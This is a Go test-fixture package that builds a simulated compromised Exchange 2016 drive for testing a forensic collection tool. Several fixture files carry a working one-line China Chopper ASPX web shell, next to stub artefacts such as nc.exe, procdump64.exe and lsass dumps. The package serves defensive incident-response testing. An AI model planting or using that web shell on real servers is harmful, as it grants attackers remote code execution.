// Package collecttest builds, at test time, a simulated C:\ of a
// compromised Exchange 2016 server: a Windows-like layout whose folder
// names differ in case from what applicationHost.config and the defaults
// say (as a copy of a real server often does), with files that must be
// collected next to files that must not.
package collecttest

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

// Times of the simulated files: logs from the incident, and older logs
// that a --since of 2021-01-01 leaves out.
var (
	Recent = time.Date(2021, 3, 5, 4, 5, 6, 0, time.UTC)
	Old    = time.Date(2019, 12, 31, 23, 0, 0, 0, time.UTC)
)

// MaxSize is the --max-size the tests use: Windows/Temp/huge.bin and
// pagefile.sys are over it.
const MaxSize = 1024

// File is one file of the tree, '/'-separated under the drive root.
type File struct {
	Path  string
	Data  string
	MTime time.Time
}

// AppHost is the simulated applicationHost.config: the two Exchange sites
// (the back end logging to its own folder, as a site-level logFile does on
// real servers) and a non-Exchange intranet site.
const AppHost = `<?xml version="1.0" encoding="UTF-8"?>
<configuration>
    <system.applicationHost>
        <sites>
            <site name="Default Web Site" id="1">
                <application path="/" applicationPool="MSExchangeOWAAppPool">
                    <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
                </application>
                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
                    <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa" />
                </application>
            </site>
            <site name="Exchange Back End" id="2">
                <application path="/">
                    <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess" />
                </application>
                <logFile directory="C:\IISLogs" />
            </site>
            <site name="Intranet" id="3">
                <application path="/">
                    <virtualDirectory path="/" physicalPath="C:\Sites\Intranet" />
                </application>
            </site>
            <siteDefaults>
                <logFile logFormat="W3C" directory="%SystemDrive%\inetpub\logs\LogFiles" />
            </siteDefaults>
        </sites>
    </system.applicationHost>
</configuration>
`

const (
	ex      = "program files/microsoft/Exchange Server/v15/"
	chopper = `<%@ Page Language="Jscript"%><%eval(Request.Item["NO9BxmCXw0JE"],"unsafe");%>`
	evtx    = "ElfFile\x00 simulated event log"
	iisLog  = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n" +
		"2021-03-05 04:05:06 10.0.0.5 POST /owa/auth/RedirSuiteServerProxy.aspx - 443 - 130.255.189.21 ExchangeServicesClient/0.0.0.0 200\r\n"
)

// Files is the tree. Names in comments say whether collection takes them.
func Files() []File {
	big := string(make([]byte, 2*MaxSize))
	return []File{
		{"WINDOWS/system32/inetsrv/Config/applicationHost.config", AppHost, Recent},               // config
		{"Windows/System32/winevt/Logs/Security.evtx", evtx, Recent},                              // event log
		{"Windows/System32/winevt/Logs/Application.evtx", evtx, Recent},                           // event log
		{"Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx", evtx, Recent}, // event log
		{"Windows/System32/winevt/Logs/Setup.evtx", evtx, Recent},                                 // only with --all-event-logs
		{"Windows/System32/LogFiles/HTTPERR/httperr1.log", "#Software: Microsoft HTTP API 2.0\r\n", Recent},
		{"Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n", Recent}, // not collected
		{"Windows/Temp/lsass.dmp", "MDMP\x93\xa7 simulated dump", Recent},
		{"Windows/Temp/huge.bin", big, Recent}, // over --max-size
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Config/web.config", "<configuration/>", Recent},
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Config/machine.config", "<configuration/>", Recent},
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Config/machine.config.default", "<configuration/>", Recent}, // not collected
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/4c3a/2b1d/xyz12345.compiled", "<preserve/>", Recent},
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/4c3a/2b1d/App_Web_zk3kd0ha.dll", "MZ", Recent},
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/4c3a/2b1d/hash.web", "x", Recent}, // not collected
		{"inetpub/logs/LogFiles/W3SVC1/u_ex210305.log", iisLog, Recent},
		{"inetpub/logs/LogFiles/W3SVC1/u_ex191231.log", iisLog, Old}, // before --since
		{"IISLogs/w3svc2/u_ex210305.log", iisLog, Recent},            // the back end's own folder
		{"inetpub/wwwroot/aspnet_client/system_web/errorcheck.aspx", chopper, Recent},
		{"inetpub/wwwroot/iisstart.htm", "<html/>", Recent},
		{"inetpub/wwwroot/web.config", "<configuration/>", Recent},
		{ex + "bin/ExSetup.exe", "MZ\x90\x00 simulated ExSetup", Recent},
		{ex + "bin/Microsoft.Exchange.Data.dll", "MZ", Recent}, // not collected
		{ex + "Logging/HttpProxy/Owa/HttpProxy_2021030503-1.LOG", "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n", Recent},
		{ex + "Logging/HttpProxy/Ecp/HttpProxy_2019123100-1.LOG", "#Software: Microsoft Exchange Server\r\n", Old}, // before --since
		{ex + "Logging/ECP/Server/ECPServer20210303-1.LOG", "#Software: Microsoft Exchange Server\r\n", Recent},
		{ex + "Logging/OABGeneratorLog/OABGenerator20210303-1.LOG", "#Software: Microsoft Exchange Server\r\n", Recent},
		{ex + "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030322-1.LOG", "#Software: Microsoft Exchange Server\r\n", Recent},
		{ex + "Logging/Diagnostics/DailyPerformanceLogs/perf.blg", "x", Recent}, // not collected
		{ex + "FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx", chopper, Recent},
		{ex + "FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/premium/flogon.js", "function x(){}", Recent},
		{ex + "FrontEnd/HttpProxy/owa/Default.aspx", "<%@ Page %>", Recent}, // not collected
		{ex + "FrontEnd/HttpProxy/owa/web.config", "<configuration/>", Recent},
		{ex + "FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx", chopper, Recent},
		{ex + "ClientAccess/ecp/web.config", "<configuration/>", Recent},
		{ex + "ClientAccess/ecp/DDI/RemoteDomains.aspx", "<%@ Page %>", Recent},
		{ex + "ClientAccess/owa/prem/15.1.2176/scripts/boot.js", "x", Recent}, // not collected (static)
		{ex + "ClientAccess/OAB/3f2a/oab.lzx", "x", Recent},                   // not collected (static)
		{ex + "ClientAccess/OAB/evil.aspx", chopper, Recent},
		{"Sites/Intranet/default.aspx", "<%@ Page %>", Recent},
		{"Sites/Intranet/Web.config", "<configuration/>", Recent},
		{"Sites/Intranet/logo.png", "x", Recent}, // not collected
		{"ProgramData/sys.zip", "PK\x05\x06" + string(make([]byte, 18)), Recent},
		{"ProgramData/Microsoft/Search/Data/Applications/Windows/Windows.edb", "x", Recent}, // excluded cache
		{"ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/01/x", "x", Recent},
		{"Users/Administrator/AppData/Local/Temp/procdump64.exe", "MZ", Recent},
		{"Users/Administrator/Documents/notes.txt", "x", Recent}, // not collected
		{"Users/Public/Downloads/nc.exe", "MZ", Recent},
		{"root/lsass.dmp", "MDMP", Recent},
		{"pagefile.sys", big, Recent}, // over --max-size
		{"ExchangeSetupLogs/ExchangeSetup.log", "[03/02/2021 10:00:00.0000] [0] Starting Microsoft Exchange Server 2016 Setup\r\n", Recent},
	}
}

// Write writes files under dir with their times.
func Write(t testing.TB, dir string, files []File) {
	t.Helper()
	for _, f := range files {
		full := filepath.Join(dir, filepath.FromSlash(f.Path))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(f.Data), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(full, f.MTime, f.MTime); err != nil {
			t.Fatal(err)
		}
	}
}

// SimulatedC writes the tree, plus a link that collection must not
// follow, into a new temporary folder and returns it.
func SimulatedC(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	Write(t, dir, Files())
	if err := os.Symlink("../System32/drivers/etc/hosts", filepath.Join(dir, "Windows/Temp/hosts-link")); err != nil {
		t.Fatal(err)
	}
	return dir
}
